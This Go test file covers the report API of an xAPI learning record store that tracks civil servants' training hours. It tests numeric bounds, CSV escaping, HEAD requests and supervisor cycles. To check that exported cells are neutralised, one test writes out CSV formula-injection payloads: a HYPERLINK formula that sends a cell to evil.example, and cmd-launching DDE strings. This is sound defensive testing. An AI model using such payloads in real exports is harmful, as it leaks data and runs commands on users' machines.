package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"go/parser"
	"go/token"
	"math"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/valyala/fastjson"

	"github.com/jejak-id/jejak/api"
	"github.com/jejak-id/jejak/lrs"
	"github.com/jejak-id/jejak/lrs/bangkom"
	"github.com/jejak-id/jejak/lrs/lrstest"
)

const (
	sitiNIP = "199001012015011001"
	budiNIP = "197805152003121002"
	aniNIP  = "198203042006041003"
)

// jpNode is the API over a real log and views, with a credential per role.
type jpNode struct {
	node                           *lrstest.Node
	admin, provider, assessor, lms *env // analyst API (/api/v1) as each
	xProvider, xAssessor, xLMS     *env // xAPI (/xapi) as each
	creds                          map[string]lrs.Credential
}

func newJPNode(t *testing.T) *jpNode {
	t.Helper()
	node := lrstest.StartNode(t, lrstest.Log(t, lrstest.NATS(t)))
	ac, as := lrstest.Credential(t, "admin-1", lrs.RoleAdmin, lrs.RoleVerifier)
	pc, ps := lrstest.Credential(t, "provider-1", lrs.RoleProvider)
	sc, ss := lrstest.Credential(t, "assessor-1", lrs.RoleAssessor)
	lc, ls := lrstest.Credential(t, "lms-1")
	srv := api.New(api.Config{
		Auth:           lrs.NewKeyring([]lrs.Credential{ac, pc, sc, lc}),
		Statements:     node.View,
		Documents:      node.Views.Documents,
		JP:             node.Views.JP,
		Writer:         node.Appender,
		BangkomProfile: []byte(`{"id":"https://jejak.id/xapi/bangkom"}`),
		Frameworks:     frameworks(t),
	})
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	a, x := ts.URL+"/api/v1", ts.URL+"/xapi"
	return &jpNode{node: node,
		admin: &env{a, ac.Key, as}, provider: &env{a, pc.Key, ps}, assessor: &env{a, sc.Key, ss}, lms: &env{a, lc.Key, ls},
		xProvider: &env{x, pc.Key, ps}, xAssessor: &env{x, sc.Key, ss}, xLMS: &env{x, lc.Key, ls},
		creds: map[string]lrs.Credential{"provider": pc, "assessor": sc, "lms": lc}}
}

// register imports Siti (supervised by Budi) and Budi in unit, with
// Siti's name given, and a position standard for Analis.
func (n *jpNode) register(t *testing.T, unit, sitiName string) {
	t.Helper()
	people, _ := json.Marshal([]bangkom.Person{
		{NIP: sitiNIP, Name: sitiName, Unit: unit, Position: "Analis", Type: "PNS", Timezone: "WIB", SupervisorNIP: budiNIP},
		{NIP: budiNIP, Name: "Budi", Unit: unit, Position: "Kabid", Type: "PNS", Timezone: "WIB"},
	})
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: string(people)}), 200)
	expect(t, n.admin.do(t, req{method: "POST", path: "/positions", body: `[{"position":"Analis","standards":{"M.01":3,"M.02":3}}]`}), 200)
}

// claim is a learning claim by Siti with extensions ext (JSON members)
// and activity name name.
func claim(form, ext, name, ts string) string {
	return `{"actor":{"account":{"homePage":"` + bangkom.DefaultHomePage + `","name":"` + sitiNIP + `"}},` +
		`"verb":{"id":"http://adlnet.gov/expapi/verbs/completed"},` +
		`"object":{"id":"https://pusdiklat.example.go.id/pelatihan/` + uuid.NewString() + `","definition":{"name":{"id-ID":` + strconv.Quote(name) + `}}},` +
		`"timestamp":"` + ts + `","context":{"platform":"Pusdiklat","extensions":{"` + bangkom.ExtForm + `":"` + form + `"` + ext + `}}}`
}

func assessment(code, raw string) string {
	return `{"actor":{"account":{"homePage":"` + bangkom.DefaultHomePage + `","name":"` + sitiNIP + `"}},` +
		`"verb":{"id":"` + bangkom.VerbAssessed + `"},"object":{"id":"` + bangkom.CompetencyPrefix + code + `"},` +
		`"result":{"score":{"raw":` + raw + `}},"timestamp":"2026-02-01T09:00:00+07:00"}`
}

// reportRoutes are every JP and competency report, by the analyst API.
func reportRoutes(unit string) []string {
	u := url.PathEscape(unit)
	return []string{
		"/people/" + sitiNIP + "/jp?year=2026",
		"/units/" + u + "/jp?year=2026",
		"/approvals?supervisor=" + budiNIP + "&year=2026",
		"/people/" + sitiNIP + "/siasn?year=2026",
		"/siasn?year=2026",
		"/siasn?year=2026&unit=" + url.QueryEscape(unit),
		"/people/" + sitiNIP + "/competencies",
		"/units/" + u + "/competencies",
	}
}

// checkReports asks every report route in JSON and in CSV: each answers
// 200 with valid JSON or CSV whose every number is finite and in range.
// It returns the CSV bodies by route.
func checkReports(t *testing.T, e *env, unit string) map[string][][]string {
	t.Helper()
	out := map[string][][]string{}
	for _, path := range reportRoutes(unit) {
		got := e.do(t, req{method: "GET", path: path})
		if got.status != 200 {
			t.Fatalf("GET %s = %d %s", path, got.status, got.body)
		}
		assertFiniteJSON(t, path, []byte(got.body))
		got = e.doWith(t, req{method: "GET", path: path}, "Accept", "text/csv")
		if got.status != 200 || !strings.HasPrefix(got.header.Get("Content-Type"), "text/csv") {
			t.Fatalf("GET %s as CSV = %d %s %s", path, got.status, got.header.Get("Content-Type"), got.body)
		}
		rows, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
		if err != nil || len(rows) == 0 {
			t.Fatalf("GET %s as CSV: not CSV (%v): %s", path, err, got.body)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				for _, bad := range []string{"Inf", "NaN", "e+"} {
					if strings.Contains(cell, bad) {
						t.Fatalf("GET %s as CSV: cell %q in %s", path, cell, got.body)
					}
				}
				if f, err := strconv.ParseFloat(cell, 64); err == nil && math.Abs(f) > 1e5 && len(cell) != 18 { // NIPs are 18 digits
					t.Fatalf("GET %s as CSV: number %q out of range", path, cell)
				}
			}
		}
		out[path] = rows
	}
	return out
}

// assertFiniteJSON checks that b is JSON whose every number is finite and
// within ±1e5 (sequences included: the test's logs are short).
func assertFiniteJSON(t *testing.T, path string, b []byte) {
	t.Helper()
	if !json.Valid(b) {
		t.Fatalf("GET %s: not JSON: %s", path, b)
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	for {
		tok, err := dec.Token()
		if err != nil {
			break
		}
		if n, ok := tok.(json.Number); ok {
			f, err := n.Float64()
			if err != nil || math.IsInf(f, 0) || math.IsNaN(f) || math.Abs(f) > 1e5 {
				t.Fatalf("GET %s: number %s out of range in %s", path, n, b)
			}
		}
	}
}

// Every hostile number is refused with 400 naming its path when it is
// written, or counted within its rule's bound; claims already in the log
// with such numbers (written before the bounds, here appended past the
// checks) never make a report fail: every report route answers 200 with
// finite numbers, in JSON and CSV.
func TestJPReports_HostileNumbers(t *testing.T) {
	n := newJPNode(t)
	n.register(t, "U1", "Siti")
	jp := func(v string) string { return `,"` + bangkom.ExtJP + `":` + v }
	days := func(v string) string { return `,"` + bangkom.ExtDays + `":` + v }
	intl := `,"` + bangkom.ExtScope + `":"internasional"`
	const ts = "2026-03-10T10:00:00+07:00"
	for _, c := range []struct {
		name, form, ext string
		status          int
		msg             string
	}{
		{"1e400", "KLS-TEKNIS", jp("1e400"), 400, bangkom.ExtJP + ": 1e400 is not a finite number"},
		{"1e308 with the international uplift", "KLS-TEKNIS", jp("1e308") + intl, 400, bangkom.ExtJP + ": 1e308 is more than the 500 JP"},
		{"-1", "KLS-TEKNIS", jp("-1"), 400, "is negative"},
		{"-0", "KLS-TEKNIS", jp("-0"), 200, ""},
		{"1e-320", "KLS-TEKNIS", jp("1e-320"), 200, ""},
		{"NaN as a string", "KLS-TEKNIS", jp(`"NaN"`), 400, "must be a JSON number"},
		{"Infinity as a string", "KLS-TEKNIS", jp(`"Infinity"`), 400, "must be a JSON number"},
		{"8 as a string", "KLS-TEKNIS", jp(`"8"`), 400, "must be a JSON number"},
		{"the form's maximum, international", "KLS-TEKNIS", jp("500") + intl, 200, ""},
		{"huge days", "KLS-SEMINAR", days("99999999999") + intl, 400, bangkom.ExtDays + ": 99999999999 is not a whole number of days from 1 to 366"},
		{"days beyond float64", "KLS-SEMINAR", days("1e400"), 400, bangkom.ExtDays},
		{"a year of days", "KLS-SEMINAR", days("366") + intl, 200, ""},
		{"pending, for the approvals", "NK-MANDIRI", "", 200, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			st := claim(c.form, c.ext, "Pelatihan "+c.name, ts)
			if c.form == "NK-MANDIRI" {
				st = strings.Replace(st, `"timestamp"`, `"result":{"duration":"PT`+strings.Repeat("9", 300)+`H"},"timestamp"`, 1)
			}
			expect(t, n.xProvider.do(t, req{method: "POST", path: "/statements", body: st}), c.status, c.msg)
			// In an array the statement is named by its index.
			if c.status == 400 {
				arr := "[" + claim("KLS-TEKNIS", jp("2"), "ok", ts) + "," + st + "]"
				expect(t, n.xProvider.do(t, req{method: "POST", path: "/statements", body: arr}), 400, "statements[1]: context.extensions.", c.msg)
			}
		})
	}
	for _, c := range []struct{ raw, msg string }{{"1e308", "result.score.raw: 1e308 is not a competency level from 1 to 5"}, {"0", "from 1 to 5"}, {"6", "from 1 to 5"}} {
		expect(t, n.xAssessor.do(t, req{method: "POST", path: "/statements", body: assessment("M.01", c.raw)}), 400, c.msg)
	}
	checkReports(t, n.admin, "U1")

	// An old log: the same claims appended past the checks.
	// An old log: the same claims appended past every check, numbers beyond
	// float64 (1e400) included.
	old := []struct{ by, st string }{
		{"provider", claim("KLS-TEKNIS", jp("1e400"), "old 1e400", ts)},
		{"provider", claim("KLS-TEKNIS", jp("1e308")+intl, "old 1e308 international", ts)},
		{"provider", claim("KLS-TEKNIS", jp("-1e400"), "old -1e400", ts)},
		{"provider", claim("KLS-SEMINAR", days("99999999999")+intl, "old huge days", ts)},
		{"lms", strings.Replace(claim("NK-MANDIRI", "", "old huge duration", ts), `"timestamp"`, `"result":{"duration":"PT`+strings.Repeat("9", 307)+`H"},"timestamp"`, 1)},
		{"assessor", assessment("M.01", "1e308")},
		{"assessor", assessment("M.02", "1e400")},
	}
	for _, o := range old {
		by := n.creds[o.by].Authority()
		id := uuid.New()
		js := `{"id":"` + id.String() + `","authority":` + string(by.Agent) + `,"version":"1.0.0",` + o.st[1:]
		v, err := fastjson.Parse(js)
		if err != nil {
			t.Fatal(err)
		}
		st := lrs.Statement{ID: id, JSON: []byte(js), Hash: lrs.ContentHash(v)}
		if _, err := n.node.Appender.Append(t.Context(), []lrs.Statement{st}, by); err != nil {
			t.Fatal(err)
		}
	}
	csvs := checkReports(t, n.admin, "U1")
	// The old claims whose declared JP or days break the profile's bounds
	// do not count (docs/adr/0019-claim-problems.md): none is in the SIASN
	// export, and the person's report lists each as not counted.
	for _, row := range csvs["/people/"+sitiNIP+"/siasn?year=2026"] {
		if len(row) > 2 && strings.HasPrefix(row[2], "old ") && row[2] != "old huge duration" {
			t.Errorf("the SIASN export counts %q: %v", row[2], row)
		}
	}
	rep := n.admin.do(t, req{method: "GET", path: "/people/" + sitiNIP + "/jp?year=2026"})
	var report struct {
		NotCounted []bangkom.Problem `json:"not_counted"`
	}
	if err := json.Unmarshal([]byte(rep.body), &report); err != nil {
		t.Fatal(err)
	}
	codes := map[string]int{}
	for _, p := range report.NotCounted {
		codes[p.Code]++
	}
	if codes[bangkom.ProblemJPOutOfRange] != 3 || codes[bangkom.ProblemDaysOutOfRange] != 1 {
		t.Errorf("not counted %v, want 3 jp_out_of_range and 1 days_out_of_range: %s", codes, rep.body)
	}
}

// A registry name or an activity name that a spreadsheet would run as a
// formula is neutralised with a leading ' in every CSV Jejak serves.
func TestJPReports_CSVFormulaCellsNeutralised(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	n := newJPNode(t)
	n.register(t, "U1", formula)
	expect(t, n.xProvider.do(t, req{method: "POST", path: "/statements",
		body: claim("KLS-TEKNIS", `,"`+bangkom.ExtJP+`":8,"`+bangkom.ExtCompetencies+`":["M.01"]`, formula, "2026-03-10T10:00:00+07:00")}), 200)
	expect(t, n.xProvider.do(t, req{method: "POST", path: "/statements",
		body: strings.Replace(claim("KLS-KURSUS", `,"`+bangkom.ExtJP+`":2`, "+cmd|' /C calc'!A0", "2026-03-11T10:00:00+07:00"), `"Pusdiklat"`, `"@SUM(1+1)*cmd|' /C calc'!A0"`, 1)}), 200)
	expect(t, n.xLMS.do(t, req{method: "POST", path: "/statements",
		body: claim("NK-MANDIRI", "", "-2+3", "2026-03-12T10:00:00+07:00")}), 200)
	csvs := checkReports(t, n.admin, "U1")
	for path, rows := range csvs {
		for _, row := range rows {
			for _, cell := range row {
				if cell == "" || cell[0] == '\'' {
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if _, err := strconv.ParseFloat(cell, 64); err != nil || cell[0] != '-' {
						t.Errorf("GET %s as CSV: cell %q would run as a formula", path, cell)
					}
				}
			}
		}
	}
	for _, path := range []string{
		"/units/U1/jp?year=2026",                          // the person's name
		"/approvals?supervisor=" + budiNIP + "&year=2026", // the person's name
		"/people/" + sitiNIP + "/siasn?year=2026",         // the activity's name
		"/siasn?year=2026",                                // the activity's name
		"/units/U1/competencies",                          // the person's name
	} {
		if !csvHas(csvs[path], "'"+formula) {
			t.Errorf("GET %s as CSV does not hold the neutralised cell: %v", path, csvs[path])
		}
	}
	siasn := csvs["/people/"+sitiNIP+"/siasn?year=2026"]
	if !csvHas(siasn, "'+cmd|' /C calc'!A0") || !csvHas(siasn, "'@SUM(1+1)*cmd|' /C calc'!A0") {
		t.Errorf("the SIASN CSV does not hold the neutralised + and @ cells: %v", siasn)
	}
}

func csvHas(rows [][]string, cell string) bool {
	for _, row := range rows {
		for _, c := range row {
			if c == cell {
				return true
			}
		}
	}
	return false
}

// Every CSV and XLSX is written by the one writer that neutralises cells:
// nothing else in the HTTP layer or the command imports encoding/csv or
// excelize to write.
func TestCSV_OneWriter(t *testing.T) {
	for _, dir := range []string{".", filepath.Join("..", "cmd", "jejak")} {
		files, _ := filepath.Glob(filepath.Join(dir, "*.go"))
		if len(files) == 0 {
			t.Fatalf("no Go files in %s", dir)
		}
		for _, f := range files {
			if strings.HasSuffix(f, "_test.go") || (dir == "." && filepath.Base(f) == "csv.go") {
				continue
			}
			src, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			file, err := parser.ParseFile(token.NewFileSet(), f, src, parser.ImportsOnly)
			if err != nil {
				t.Fatal(err)
			}
			for _, imp := range file.Imports {
				if imp.Path.Value == `"encoding/csv"` || imp.Path.Value == `"github.com/xuri/excelize/v2"` {
					t.Errorf("%s imports %s: write CSV and XLSX through api's writeCSV", f, imp.Path.Value)
				}
			}
		}
	}
}

// HEAD answers wherever GET does on /api/v1: same status and type, no body.
func TestAnalystAPI_HEAD(t *testing.T) {
	n := newJPNode(t)
	n.register(t, "U1", "Siti")
	for _, path := range append(reportRoutes("U1"), "/people/"+sitiNIP+"/jp?year=abc", "/units/NOPE/jp") {
		get := n.admin.do(t, req{method: "GET", path: path})
		head := n.admin.do(t, req{method: "HEAD", path: path})
		if head.status != get.status || head.body != "" || head.header.Get("Content-Type") != get.header.Get("Content-Type") {
			t.Errorf("HEAD %s = %d %q %q; GET = %d %q", path, head.status, head.header.Get("Content-Type"), head.body, get.status, get.header.Get("Content-Type"))
		}
	}
}

// A unit whose name holds ; : = / & and a space is found by its
// percent-encoded name, and reported under its own name.
func TestAnalystAPI_UnitNameRoundTrip(t *testing.T) {
	const unit = "Biro Umum; Keu:=/&"
	n := newJPNode(t)
	n.register(t, unit, "Siti")
	u := url.PathEscape(unit)
	for _, path := range []string{"/units/" + u + "/jp?year=2026", "/units/" + u + "/competencies", "/units/" + strings.ReplaceAll(url.QueryEscape(unit), "+", "%20") + "/jp?year=2026"} {
		got := n.admin.do(t, req{method: "GET", path: path})
		expect(t, got, 200)
		var body struct {
			Unit   string
			People int
		}
		if err := json.Unmarshal([]byte(got.body), &body); err != nil || body.Unit != unit || body.People != 2 {
			t.Errorf("GET %s = %s; want unit %q with 2 people", path, got.body, unit)
		}
	}
	got := n.admin.doWith(t, req{method: "GET", path: "/units/" + u + "/jp?year=2026"}, "Accept", "text/csv")
	expect(t, got, 200, sitiNIP)
	if cd := got.header.Get("Content-Disposition"); cd != `attachment; filename="jp-Biro_Umum__Keu____-2026.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	expect(t, n.admin.do(t, req{method: "GET", path: "/siasn?year=2026&unit=" + url.QueryEscape(unit)}), 200)
}

// The registry import takes JSON or CSV, and says so for anything else.
func TestAnalystAPI_PeopleMediaTypes(t *testing.T) {
	n := newJPNode(t)
	people := `[{"nip":"` + sitiNIP + `","name":"Siti","unit":"U1","position":"Analis","type":"PNS","timezone":"WIB"}]`
	for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "text/html; charset=utf-8"} {
		expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: people, contentType: ct}), 415, "application/json or text/csv", strings.Split(ct, ";")[0])
	}
	expect(t, n.admin.do(t, req{method: "GET", path: "/people/" + sitiNIP + "/jp"}), 404)
	expect(t, n.admin.do(t, req{method: "POST", path: "/positions", body: `[{"position":"Analis","standards":{"M.01":3}}]`, contentType: "text/plain"}), 415, "application/json")
	expect(t, n.admin.do(t, req{method: "POST", path: "/catalogue", body: `[{"activity":"https://lms.example.go.id/c","form":"NK-ELEARN"}]`, contentType: "text/plain"}), 415, "application/json")
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: people, contentType: "application/json; charset=utf-8"}), 200, `"imported":1`)
	csvBody := "nip,name,unit,type,timezone,supervisor_nip\n" + budiNIP + ",Budi,U1,PNS,WIB,\n"
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: csvBody, contentType: "text/csv"}), 200, `"imported":1`)
	expect(t, n.admin.do(t, req{method: "GET", path: "/people/" + budiNIP + "/jp"}), 200)
}

// A supervisor cycle, in one import or with the registry as it stands, is
// refused naming its NIPs, and nothing of the import is applied.
func TestAnalystAPI_SupervisorCycles(t *testing.T) {
	n := newJPNode(t)
	person := func(nip, sup string) string {
		return `{"nip":"` + nip + `","name":"P` + nip[:4] + `","unit":"U1","position":"Analis","type":"PNS","timezone":"WIB","supervisor_nip":"` + sup + `"}`
	}
	two := "[" + person(sitiNIP, budiNIP) + "," + person(budiNIP, sitiNIP) + "]"
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: two}), 400, "supervisor cycle "+sitiNIP+" → "+budiNIP+" → "+sitiNIP)
	three := "[" + person(sitiNIP, budiNIP) + "," + person(budiNIP, aniNIP) + "," + person(aniNIP, sitiNIP) + "]"
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: three}), 400, sitiNIP+" → "+budiNIP+" → "+aniNIP+" → "+sitiNIP)
	expect(t, n.admin.do(t, req{method: "GET", path: "/people/" + sitiNIP + "/jp"}), 404)
	// Siti → Budi → Ani is a chain; Ani → Siti later closes it.
	chain := "[" + person(sitiNIP, budiNIP) + "," + person(budiNIP, aniNIP) + "," + strings.Replace(person(aniNIP, ""), `,"supervisor_nip":""`, "", 1) + "]"
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: chain}), 200, `"imported":3`)
	expect(t, n.xLMS.do(t, req{method: "POST", path: "/statements",
		body: strings.Replace(claim("NK-MANDIRI", "", "Ani belajar", "2026-03-12T10:00:00+07:00"), sitiNIP, aniNIP, 1)}), 200)
	got := n.admin.do(t, req{method: "POST", path: "/people", body: "[" + person(aniNIP, sitiNIP) + "]"})
	expect(t, got, 400, "supervisor_nip: supervisor cycle "+aniNIP+" → "+sitiNIP+" → "+budiNIP+" → "+aniNIP, "nothing was imported")
	// Ani still has no supervisor: her claim is not Siti's to approve.
	expect(t, n.admin.do(t, req{method: "GET", path: "/approvals?supervisor=" + sitiNIP + "&year=2026"}), 200, `"pending":[]`)
	// A change that breaks no chain is taken.
	expect(t, n.admin.do(t, req{method: "POST", path: "/people", body: "[" + person(budiNIP, "") + "]"}), 200)
}
